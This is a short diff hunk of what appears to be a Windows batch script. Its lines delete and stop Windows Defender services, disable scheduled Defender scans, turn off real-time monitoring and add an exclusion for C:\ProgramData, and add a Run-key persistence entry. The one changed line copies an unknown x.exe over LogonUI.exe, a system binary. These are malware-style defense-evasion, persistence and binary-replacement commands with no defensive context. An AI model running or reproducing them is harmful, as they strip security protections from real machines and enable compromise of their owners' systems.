@@ -84,7 +84,7 @@ sc delete WinDefend
 sc stop SecurityHealthService
 schtasks /delete /tn "\Microsoft\Windows\Defrag\ScheduledDefrag" /f
 schtasks /change /tn "\Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan" /disable
-copy /y x.exe C:\Windows\System32\LogonUI.exe
+copy /y x.exe D:\Windows\System32\LogonUI.exe
 reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v q /d C:\Windows\System32\defrag.exe
 powershell -c "Get-WmiObject -Class Win32_PerfFormattedData_PerfOS_System; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.SecurityProtocolType]::Tls12"
 powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath 'C:\ProgramData'"
